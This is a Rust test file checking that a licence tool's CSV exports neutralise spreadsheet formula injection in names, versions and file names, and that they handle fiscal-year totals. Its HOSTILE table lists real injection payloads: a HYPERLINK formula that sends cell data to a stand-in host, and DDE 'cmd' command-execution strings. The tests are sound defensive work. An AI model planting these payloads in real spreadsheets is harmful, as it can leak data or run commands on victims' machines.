//! Exports opened by a spreadsheet run nothing: names that are formula injection payloads come
//! out as text with a leading quote, every text cell quoted, numbers bare.

use preflight_engine::{
    Currency, Deployment, Entitlement, LicenceType, Metric, Money, ProductId, RulePack, SourceRef,
    UnmatchedLine, Workbook, evaluate,
};
use preflight_import::export::{entitlements_csv, results_csv};
use preflight_import::{Options, csv_text, read_entitlements};
use rust_decimal::dec;

/// Names as a hostile or careless file writes them, and what a spreadsheet must show.
const HOSTILE: &[(&str, &str)] = &[
    (
        "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"Open\")",
        "'=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"Open\")",
    ),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    (
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    ),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("Acme \"Pro\", Suite; =1+2", "Acme \"Pro\", Suite; =1+2"),
    ("Café Server", "Café Server"),
];

fn source(row: u32) -> SourceRef {
    SourceRef {
        file: "=evil.csv".into(),
        row,
    }
}

#[test]
fn hostile_names_in_an_entitlement_export_are_text_with_a_leading_quote() {
    let catalogue = RulePack::builtin().catalogue;
    // Lines that matched no product keep their names as the file wrote them.
    let unmatched: Vec<UnmatchedLine> = HOSTILE
        .iter()
        .enumerate()
        .map(|(index, (name, _))| UnmatchedLine {
            publisher: String::new(),
            product: name.to_string(),
            edition: String::new(),
            quantity: "-3".into(),
            extra: Vec::new(),
            source: SourceRef {
                file: "hostile.csv".into(),
                row: index as u32 + 2,
            },
        })
        .collect();
    // A matched line with a hostile version and legal entity, and numbers, negative ones too.
    let mut line = Entitlement::new(
        ProductId("ms-sql-server-enterprise".into()),
        Metric::Core,
        LicenceType::PerpetualWithSa,
        2,
        16,
        source(2),
    );
    line.unit_price = Some(Money::new(dec!(15123.00), Currency::USD));
    line.version = Some("=2022".into());
    line.legal_entity = Some("@Contoso".into());
    line.start = Some("2026-01-31".parse().unwrap());

    let bytes = entitlements_csv(&[line], &unmatched, &catalogue);
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "UTF-8 with a BOM");
    let text = String::from_utf8(bytes.clone()).unwrap();
    // Numbers bare (a spreadsheet reads them as numbers), text quoted.
    assert!(
        text.contains(
            "\"SQL Server Enterprise\",\"Per core\",\"Perpetual + SA\",2,16,32,15123.00,\"USD\",,2026-01-31,,\"'=2022\",\"'@Contoso\",,,,,,,,,\"'=evil.csv\",2\r\n"
        ),
        "{text}"
    );
    // Read back as a spreadsheet would split it: one cell each, the dangerous ones quoted.
    let table = csv_text::read_table("export.csv", &bytes).unwrap();
    assert_eq!(table.rows.len(), 2 + HOSTILE.len());
    for (row, (_, shown)) in table.rows[2..].iter().zip(HOSTILE) {
        assert_eq!(row.cells.len(), 23, "{row:?}");
        assert_eq!(row.cells[0], *shown);
        assert_eq!(row.cells[21], "hostile.csv");
        // A quantity as the file wrote it is text, so "-3" is neutralised too.
        assert_eq!(row.cells[4], "'-3");
    }
    // No cell of the export begins a formula.
    for row in &table.rows {
        for cell in &row.cells {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r', '\n'])
                    && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
                "{cell:?}"
            );
        }
    }
}

/// The demo's deployment and entitlements, plus a file whose name is a formula.
fn demo_results() -> (preflight_engine::Evaluation, RulePack) {
    let pack = RulePack::builtin();
    let deployment: Deployment = serde_json::from_slice(
        &std::fs::read(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../../public/demo/deployment.json"
        ))
        .unwrap(),
    )
    .unwrap();
    let mut workbook = Workbook::new(Currency::USD, deployment);
    let entitlements = std::fs::read(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../public/demo/entitlements.csv"
    ))
    .unwrap();
    for (file, bytes) in [
        ("entitlements.csv", &entitlements[..]),
        (
            HOSTILE[0].0,
            b"Product,Metric,Quantity\n@SUM(1+1)*cmd,Per device,3\n",
        ),
    ] {
        let imported =
            read_entitlements(file, bytes, &Options::default(), &pack.catalogue).unwrap();
        workbook.put_source(imported.value);
    }
    let evaluation = evaluate(&workbook, &pack, "2026-11-28".parse().unwrap());
    (evaluation, pack)
}

#[test]
fn results_export_positions_purchases_and_years_with_numbers_as_numbers() {
    let (evaluation, pack) = demo_results();
    let bytes = results_csv(&evaluation, &pack.catalogue);
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "UTF-8 with a BOM");
    let text = String::from_utf8(bytes).unwrap();
    let lines: Vec<&str> = text.trim_start_matches('\u{feff}').split("\r\n").collect();
    let after = |title: &str, n: usize| {
        let at = lines
            .iter()
            .position(|l| *l == format!("\"{title}\""))
            .unwrap_or_else(|| panic!("no {title} in {text}"));
        lines[at + 1..at + 1 + n].to_vec()
    };
    assert_eq!(lines[0], "\"Preflight results\"");
    assert_eq!(lines[1], "\"As of\",2026-11-28");
    // The README's figures: 128 core licences of each; 48 and 32 owned; 80 and 96 to buy.
    assert_eq!(
        after("Licence position", 3),
        [
            "\"Product\",\"Metric\",\"In use today\",\"Required by the project\",\"Entitled\",\"Shortfall before\",\"Surplus before\",\"Shortfall after\",\"Surplus after\",\"Shortfall the project adds\",\"Cost\",\"Currency\"",
            "\"Windows Server Datacenter\",\"Per core\",,128,48,0,48,80,0,80,30775.00,\"USD\"",
            "\"SQL Server Enterprise\",\"Per core\",,128,32,0,32,96,0,96,725904.00,\"USD\"",
        ]
    );
    assert_eq!(
        after("To buy", 3),
        [
            "\"Product\",\"Needed from\",\"Pack size\",\"Packs\",\"Pack price\",\"Line total\",\"Currency\"",
            "\"Windows Server Datacenter\",2027-01-04,16,5,6155.00,30775.00,\"USD\"",
            "\"SQL Server Enterprise\",2027-01-04,2,48,15123.00,725904.00,\"USD\"",
        ]
    );
    // The page's "Cost by fiscal year": FY2027 one-off 756,679.00; the later years nothing.
    assert_eq!(
        after("Cost by fiscal year", 4),
        [
            "\"Fiscal year\",\"One-off (capex)\",\"Recurring (opex)\",\"Total\",\"Currency\"",
            "\"FY2027\",756679.00,,756679.00,\"USD\"",
            "\"FY2028\",,,,",
            "\"FY2029\",,,,",
        ]
    );
    // Every text cell is quoted, so no name can start a cell of its own.
    for line in &lines {
        for cell in line.split(',') {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r', '\n']),
                "{cell:?} in {line}"
            );
        }
    }
}

#[test]
fn results_export_neutralises_a_file_name_that_is_a_formula() {
    let (evaluation, pack) = demo_results();
    let text = String::from_utf8(results_csv(&evaluation, &pack.catalogue)).unwrap();
    let file = HOSTILE[0].1.replace('"', "\"\"");
    assert!(
        text.contains(&format!("\r\n\"{file}\",\"")),
        "the file table: {text}"
    );
    // The finding about its line begins with the file's name: neutralised as well.
    assert!(
        text.contains(&format!(",\"{file} row 2: ")),
        "the finding: {text}"
    );
    assert!(!text.contains(",\"=HYPERLINK"), "{text}");
}

#[test]
fn results_export_gives_no_year_figure_when_a_year_cannot_be_summed() {
    let (mut evaluation, pack) = demo_results();
    // A line at Decimal's limit in FY2027, beside the demo's 756,679.00 of licences.
    evaluation.budget.lines.push(preflight_engine::BudgetLine {
        fiscal_year: "FY2027".into(),
        product: ProductId("ms-windows-server-datacenter".into()),
        spend: preflight_engine::Spend::Capex,
        item: "licences".into(),
        amount: Money::new(rust_decimal::Decimal::MAX, Currency::USD),
    });
    let text = String::from_utf8(results_csv(&evaluation, &pack.catalogue)).unwrap();
    assert!(
        text.contains("\"Cost by fiscal year\"\r\n\"Fiscal year\",\"One-off (capex)\",\"Recurring (opex)\",\"Total\",\"Currency\"\r\n\"not summed: the amounts of a fiscal year are out of range (amount out of range)\"\r\n"),
        "{text}"
    );
    // Its lines are still there, each exact.
    assert!(text.contains("\"FY2027\",\"Windows Server Datacenter\",\"one-off (capex)\",\"licences\",79228162514264337593543950335,\"USD\""));
}
